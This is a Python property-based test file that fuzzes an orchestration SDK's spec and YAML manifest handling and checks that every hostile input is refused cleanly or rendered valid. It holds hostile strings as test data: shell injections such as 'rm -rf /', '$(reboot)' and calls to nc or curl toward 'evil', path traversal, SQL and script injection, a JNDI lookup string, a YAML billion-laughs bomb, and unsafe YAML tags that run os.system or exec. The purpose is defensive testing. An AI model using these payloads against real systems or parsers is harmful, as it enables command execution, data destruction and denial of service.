"""Hostile specs and manifests: valid native documents, or ValidationError naming the field.

Hypothesis builds specs and manifest texts from wrong types, huge and negative numbers,
unicode, strings that look like shell, SQL, template or path injection, very deep
nesting, YAML bombs, unsafe YAML tags and duplicate keys. Each one must either

- be refused with :class:`~orchsdk.ValidationError` (or, for a field the backend cannot
  carry out, :class:`~orchsdk.UnsupportedFeature`) naming the field, with nothing sent
  to the server (the emulator's request count does not move), or
- be applied, its rendered documents valid (Kubernetes: ``kubernetes-validate`` strict;
  Marathon: ``AppDefinition.json``), and the emulator accept them.

No other exception is allowed. The number of cases tried is printed at the end of the run.
"""

from __future__ import annotations

import collections
import io
import sys
import time
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import attrs
import pytest
from faults_helpers import FIGURES
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from orchsdk_kubernetes.render import render as render_kubernetes
from orchsdk_kubernetes.testing import KubernetesEmulator
from orchsdk_marathon.testing import MarathonEmulator
from strategies import deployments as valid_deployments
from strategies import secrets as valid_secrets
from strategies import services as valid_services

import orchsdk
from orchsdk import (
    ConfigMap,
    ConfigRef,
    Deployment,
    FileMount,
    Orchestrator,
    Port,
    Resource,
    Resources,
    RetryPolicy,
    Rollout,
    Secret,
    SecretRef,
    UnsupportedFeature,
    ValidationError,
)
from orchsdk import (
    HealthCheck as Health,
)

_MARATHON_TESTS = str(Path(__file__).resolve().parents[1] / "marathon")
if _MARATHON_TESTS not in sys.path:
    sys.path.insert(0, _MARATHON_TESTS)

from marathon_helpers import schema_errors, schema_path  # noqa: E402

ONCE = RetryPolicy(attempts=1)
EXAMPLES = 150

INJECTION = [
    "; rm -rf / #",
    "$(reboot)",
    "`id`",
    "| nc evil 1",
    "&& curl evil",
    "../../etc/passwd",
    "' OR '1'='1' --",
    '"; DROP TABLE apps; --',
    "<script>alert(1)</script>",
    "{{ 7*7 }}",
    "${jndi:ldap://evil/x}",
    "%s%s%n",
    "\x00",
    "line\nbreak",
    "web\nkind: Secret",
    "\u202eevil",
    "ünïcödé",
    "名前",
    "😀",
    "-web",
    "web-",
    "Web",
    "web_1",
    "web.",
    "..",
    "",
    " ",
    "a" * 64,
    "a" * 254,
    "x" * 100_000,
]

texts = st.one_of(
    st.sampled_from(INJECTION),
    st.text(max_size=40),
    st.from_regex(r"[a-z][a-z0-9-]{0,20}", fullmatch=True),
)
numbers = st.one_of(
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from([0, -1, 2**31, 2**63, 10**400]),
)
wrong = st.one_of(
    st.none(),
    st.booleans(),
    numbers,
    st.binary(max_size=8),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=4), st.integers(), max_size=2),
    st.builds(object),
)
anything = st.one_of(texts, wrong)


def _nest(depth: int, leaf: Any) -> Any:
    for level in range(depth):
        leaf = {"a": leaf} if level % 2 else [leaf]
    return leaf


deep = st.builds(_nest, st.sampled_from([1, 50, 200, 2000, 20_000]), anything)
json_like = st.recursive(
    st.one_of(st.none(), st.booleans(), numbers, texts),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(texts, inner, max_size=3)),
    max_leaves=12,
)
natives = st.one_of(
    st.just({}),
    st.fixed_dictionaries({"kubernetes": st.one_of(json_like, deep)}),
    st.fixed_dictionaries({"marathon": st.one_of(json_like, deep)}),
    deep,
    wrong,
)
keys = st.one_of(texts, st.none(), st.booleans(), numbers, st.binary(max_size=4))
mappings = st.one_of(st.dictionaries(keys, anything, max_size=4), wrong, deep)
string_maps = st.one_of(st.dictionaries(texts, texts, max_size=4), mappings)
ports = st.one_of(
    st.lists(
        st.builds(
            Port,
            port=st.one_of(st.integers(-1, 70_000), wrong),
            name=st.one_of(st.none(), texts),
            target_port=st.one_of(st.none(), st.integers(-1, 70_000), texts),
            protocol=st.one_of(st.sampled_from(["TCP", "UDP", "SCTP"]), texts),
        ),
        max_size=3,
    ),
    st.lists(anything, max_size=2),
    wrong,
)
env_values = st.one_of(
    texts,
    st.builds(SecretRef, texts, texts),
    st.builds(ConfigRef, texts, texts),
    wrong,
)

DEPLOYMENT_FIELDS: dict[str, st.SearchStrategy[Any]] = {
    "name": st.one_of(texts, wrong),
    "image": st.one_of(texts, wrong),
    "namespace": st.one_of(st.none(), texts, wrong),
    "replicas": st.one_of(numbers, wrong),
    "command": st.one_of(st.lists(texts, max_size=3), anything),
    "args": st.one_of(st.lists(anything, max_size=3), anything),
    "ports": ports,
    "env": st.one_of(st.dictionaries(texts, env_values, max_size=4), mappings),
    "labels": string_maps,
    "annotations": string_maps,
    "native": natives,
    "resources": st.one_of(
        st.none(),
        st.builds(
            Resources,
            cpu=st.one_of(st.none(), texts, numbers),
            memory=st.one_of(st.none(), texts, numbers),
            gpu=st.one_of(st.none(), numbers, texts),
        ),
        wrong,
    ),
    "health": st.one_of(
        st.none(),
        st.builds(
            Health,
            http_path=st.one_of(st.none(), texts),
            port=st.one_of(st.none(), texts, numbers),
            interval=st.one_of(st.none(), numbers),
        ),
        wrong,
    ),
    "rollout": st.one_of(
        st.builds(Rollout, max_surge=st.one_of(texts, numbers), max_unavailable=anything),
        wrong,
    ),
    "files": st.one_of(
        st.lists(st.builds(FileMount, path=texts, source=env_values), max_size=2), wrong
    ),
}
SECRET_FIELDS: dict[str, st.SearchStrategy[Any]] = {
    "name": st.one_of(texts, wrong),
    "namespace": st.one_of(st.none(), texts),
    "data": st.one_of(
        st.dictionaries(texts, st.one_of(texts, st.just("v" * (1024 * 1024 + 1))), max_size=4),
        mappings,
    ),
    "labels": string_maps,
    "native": natives,
}
SERVICE_FIELDS: dict[str, st.SearchStrategy[Any]] = {
    "name": st.one_of(texts, wrong),
    "selector": string_maps,
    "ports": ports,
    "exposure": st.one_of(st.sampled_from(["internal", "external", "node"]), anything),
    "hostname": st.one_of(st.none(), texts, wrong),
}


def hostile(
    valid: st.SearchStrategy[Resource], fields: dict[str, st.SearchStrategy[Any]]
) -> st.SearchStrategy[Resource]:
    """A valid spec with one field made hostile (most cases), or every field at once."""
    one = st.tuples(valid, st.sampled_from(sorted(fields))).flatmap(
        lambda pair: fields[pair[1]].map(lambda value: attrs.evolve(pair[0], **{pair[1]: value}))
    )
    return st.one_of(one, one, valid, _all_hostile(fields, valid))


def _all_hostile(
    fields: dict[str, st.SearchStrategy[Any]], valid: st.SearchStrategy[Resource]
) -> st.SearchStrategy[Resource]:
    return st.tuples(valid, st.fixed_dictionaries(fields)).map(
        lambda pair: attrs.evolve(pair[0], **pair[1])
    )


hostile_deployments = hostile(valid_deployments(), DEPLOYMENT_FIELDS)
hostile_secrets = hostile(valid_secrets(), SECRET_FIELDS)
hostile_services = hostile(valid_services(), SERVICE_FIELDS)
hostile_config_maps = st.builds(ConfigMap, name=texts, data=mappings)


@pytest.fixture(scope="module")
def tally() -> Iterator[collections.Counter[str]]:
    counts: collections.Counter[str] = collections.Counter()
    yield counts
    for name in sorted({key.split(":")[0] for key in counts}):
        tried = counts[f"{name}:tried"]
        FIGURES.append(
            f"hostile {name}: {tried} cases tried, {counts[f'{name}:refused']} refused "
            f"(ValidationError or UnsupportedFeature naming the field, nothing sent), "
            f"{counts[f'{name}:refused by the server (native)']} native patches refused by "
            f"the server, {counts[f'{name}:applied']} applied and valid"
        )


def _names_fields(error: ValidationError | UnsupportedFeature) -> None:
    if isinstance(error, UnsupportedFeature):
        raise AssertionError(f"refused as unsupported after sending: {error}")
    assert error.errors, error


def _has_native(spec: Resource, backend: str) -> bool:
    native = spec.native
    return isinstance(native, Mapping) and bool(native.get(backend))


def _writes_since(server: Any, before: int) -> int:
    """The requests after the ``before``-th that could change something: apply may read
    the objects a spec refers to (one GET each) before it refuses, but write nothing."""
    return sum(verb != "GET" for verb, _ in server.requests[before:])


def _refused_properly(
    error: ValidationError | UnsupportedFeature, sent: int = 0, *, manifest: bool = False
) -> None:
    """The refusal names the field (or, for a manifest that is not even YAML, the
    document and the line), and came before any write."""
    if sent:
        raise AssertionError(f"refused after {sent} write(s): {error}")
    if isinstance(error, UnsupportedFeature):
        assert error.field, error
        return
    assert error.errors, error
    if manifest and not all(error.fields):
        assert "[" in error.subject, error  # names the document: "hostile.yaml[0]"
        assert "line" in str(error), error
        return
    assert all(error.fields), f"a field is not named: {error}"


# -- Kubernetes --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def kubernetes() -> Iterator[tuple[KubernetesEmulator, Orchestrator]]:
    with KubernetesEmulator(auto=False) as emulator:
        orch = orchsdk.connect(emulator.url, retry=ONCE, create_namespace=True)
        yield emulator, orch
        orch.close()
        assert emulator.internal_errors == []


def _strict_kubernetes(document: dict[str, Any]) -> None:
    import kubernetes_validate

    version = kubernetes_validate.latest_version()
    kubernetes_validate.validate(document, version, strict=True)


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(spec=st.one_of(hostile_deployments, hostile_secrets, hostile_services, hostile_config_maps))
@example(spec=Deployment("web", image="nginx", native={"kubernetes": _nest(20_000, 1)}))
@example(spec=Deployment("web", image="nginx; rm -rf /", env={"X": "$(reboot)"}))
@example(spec=Secret("db", data={"k": "v" * (1024 * 1024 + 1)}))
@example(spec=Deployment("web", image="nginx", replicas=10**400))
def test_kubernetes_applies_or_refuses_every_hostile_spec(
    kubernetes: tuple[KubernetesEmulator, Orchestrator],
    tally: collections.Counter[str],
    spec: Resource,
) -> None:
    emulator, orch = kubernetes
    tally["kubernetes:tried"] += 1
    before = len(emulator.server.requests)
    try:
        orch.apply(spec)
    except (ValidationError, UnsupportedFeature) as error:
        sent = _writes_since(emulator.server, before)
        if sent and _has_native(spec, "kubernetes"):
            # A native patch is the escape hatch: the core checks that it is JSON, and the
            # server judges its content (and names the field it refuses).
            _names_fields(error)
            tally["kubernetes:refused by the server (native)"] += 1
            return
        _refused_properly(error, sent)
        tally["kubernetes:refused"] += 1
        return
    tally["kubernetes:applied"] += 1
    placed = attrs.evolve(spec, namespace=spec.namespace or "default")
    if not _has_native(spec, "kubernetes"):  # a native patch is the server's to judge
        _strict_kubernetes(render_kubernetes(placed))
    orch.delete(placed)


# -- Marathon ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def marathon() -> Iterator[tuple[MarathonEmulator, Orchestrator]]:
    with MarathonEmulator(deployment_seconds=0.02, schema=schema_path()) as emulator:
        orch = orchsdk.connect(emulator.url, retry=ONCE)
        orch.capabilities  # noqa: B018 - read /v2/info before counting requests
        yield emulator, orch
        orch.close()


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(spec=st.one_of(hostile_deployments, hostile_secrets))
@example(spec=Deployment("web", image="nginx", native={"marathon": _nest(20_000, 1)}))
@example(spec=Deployment("web", image="nginx", command=["sh", "-c", "$(reboot)"]))
@example(spec=Secret("db", data={"../../x": "v"}))
def test_marathon_applies_or_refuses_every_hostile_spec(
    marathon: tuple[MarathonEmulator, Orchestrator],
    tally: collections.Counter[str],
    spec: Resource,
) -> None:
    emulator, orch = marathon
    tally["marathon:tried"] += 1
    before = len(emulator.server.requests)
    try:
        documents = orch.render(spec)
        orch.apply(spec)
    except (ValidationError, UnsupportedFeature) as error:
        sent = _writes_since(emulator.server, before)
        if sent and _has_native(spec, "marathon"):
            _names_fields(error)
            tally["marathon:refused by the server (native)"] += 1
            return
        _refused_properly(error, sent)
        tally["marathon:refused"] += 1
        return
    tally["marathon:applied"] += 1
    for document in documents:
        if isinstance(spec, Deployment):
            assert schema_errors(document) == []
    orch.delete(spec)


# -- manifests ---------------------------------------------------------------------------

BILLION_LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
    f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
    f"*{chr(97 + i)}]\n"
    for i in range(9)
)
PWNED = Path("/tmp/orchsdk-hostile-pwned")
"""A file that only a YAML tag running code would make."""

HOSTILE_YAML = [
    BILLION_LAUGHS,
    "apiVersion: orchsdk/v1\nkind: Deployment\nname: web\nimage: x\nenv: &e {A: *e}\n",
    f"!!python/object/apply:os.system ['touch {PWNED}']\n",
    "apiVersion: orchsdk/v1\nkind: Deployment\nname: !!python/object/apply:builtins.exec "
    f'[\'open("{PWNED}", "w")\']\nimage: x\n',
    "apiVersion: orchsdk/v1\nkind: Deployment\nname: web\nname: evil\nimage: x\n",
    "apiVersion: orchsdk/v1\nkind: Deployment\nname: web\nimage: x\nimage: y\n",
    "apiVersion: orchsdk/v1\nkind: Deployment\nname: web\nimage: x\nreplicas: 1e400\n",
    "apiVersion: orchsdk/v1\nkind: Deployment\nname: web\nimage: x\nreplicas: .nan\n",
    "apiVersion: orchsdk/v1\nkind: Deployment\nname: web\nimage: x\nreplicas: 0x7fffffffffff\n",
    "apiVersion: orchsdk/v1\nkind: Deployment\nname: web\nimage: !!binary aGVsbG8=\n",
    "apiVersion: orchsdk/v1\nkind: Deployment\nname: web\nimage: x\nlabels: {<<: {a: b}}\n",
    "apiVersion: orchsdk/v1\nkind: Secret\nname: db\ndata: {password: 2001-01-01}\n",
    "[" * 10_000 + "]" * 10_000,
    "{a: " * 5_000 + "1" + "}" * 5_000,
    "- " * 3000 + "x\n",
    "apiVersion: orchsdk/v1\nkind: Deployment\nname: web\nimage: x\n\tbad: tab\n",
    "\ufeffapiVersion: orchsdk/v1\nkind: ConfigMap\nname: c\ndata: {a: b}\n",
    "apiVersion: orchsdk/v1\nkind: Deployment\nname: web\nimage: x\nnative: "
    + "{a: " * 200
    + "1"
    + "}" * 200
    + "\n",
    "--- !<tag:yaml.org,2002:python/name:os.system> x\n",
    "apiVersion: orchsdk/v1\nkind: Deployment\nname: web\nimage: 'x'\n---\n" * 200,
]


def _field_lines(data: dict[str, Any]) -> str:
    import yaml

    return str(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))


manifest_fields = st.fixed_dictionaries(
    {
        "apiVersion": st.one_of(st.just("orchsdk/v1"), texts),
        "kind": st.one_of(st.sampled_from(["Deployment", "Secret", "Service", "ConfigMap"]), texts),
        "name": st.one_of(texts, st.integers(), st.none()),
    },
    optional={
        "image": st.one_of(texts, st.integers()),
        "replicas": st.one_of(st.integers(-5, 2**70), texts, st.floats()),
        "env": st.dictionaries(texts, st.one_of(texts, st.integers()), max_size=3),
        "labels": st.dictionaries(texts, texts, max_size=3),
        "data": st.dictionaries(texts, texts, max_size=3),
        "ports": st.lists(st.fixed_dictionaries({"port": st.one_of(st.integers(), texts)})),
        "native": st.one_of(json_like, st.builds(_nest, st.integers(1, 300), texts)),
        "selector": st.dictionaries(texts, texts, max_size=2),
        "unknown_field": texts,
    },
)


@st.composite
def manifest_texts(draw: st.DrawFn) -> str:
    """A manifest of a valid spec with one field made hostile (half the time), or one built
    from hostile fields; sometimes with a key given twice, or a second document."""
    if draw(st.booleans()):
        from orchsdk.manifests import manifest_of

        spec = draw(st.one_of(valid_deployments(), valid_secrets(), valid_services()))
        fields = manifest_of(spec, reveal=True)
        key = draw(st.sampled_from(sorted(fields)))
        if draw(st.booleans()):
            fields[key] = draw(
                st.one_of(texts, json_like, st.builds(_nest, st.integers(1, 300), texts))
            )
    else:
        fields = draw(manifest_fields)
    try:
        text = _field_lines(fields)
    except Exception:  # a value PyYAML cannot write: use a hostile text instead
        return draw(st.sampled_from(HOSTILE_YAML))
    if draw(st.booleans()):  # a duplicate key, as a hand-edited file may hold
        key = draw(st.sampled_from(sorted(fields)))
        text += f"{key}: duplicated\n"
    return text + draw(st.sampled_from(["", "---\n", "---\n" + HOSTILE_YAML[4]]))


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(text=st.one_of(manifest_texts(), st.sampled_from(HOSTILE_YAML)))
def test_hostile_manifests_load_or_are_refused_naming_the_field(
    kubernetes: tuple[KubernetesEmulator, Orchestrator],
    tally: collections.Counter[str],
    text: str,
) -> None:
    load = getattr(orchsdk, "load_manifests", None)
    if load is None:
        pytest.skip("orchsdk.load_manifests does not exist yet")
    emulator, orch = kubernetes
    tally["manifests:tried"] += 1
    before = len(emulator.server.requests)
    started = time.monotonic()
    try:
        resources = load(io.StringIO(text), name="hostile.yaml")  # text, never a path
        documents = orch.render(*resources)
    except (ValidationError, UnsupportedFeature) as error:
        if time.monotonic() - started > 5:
            raise AssertionError("a hostile manifest took too long to refuse") from error
        _refused_properly(error, len(emulator.server.requests) - before, manifest=True)
        tally["manifests:refused"] += 1
        return
    finally:
        assert not PWNED.exists(), "a YAML tag ran code"
    tally["manifests:applied"] += 1
    for resource, document in zip(resources, documents, strict=True):
        if not _has_native(resource, "kubernetes"):  # a native patch is the server's to judge
            _strict_kubernetes(document)
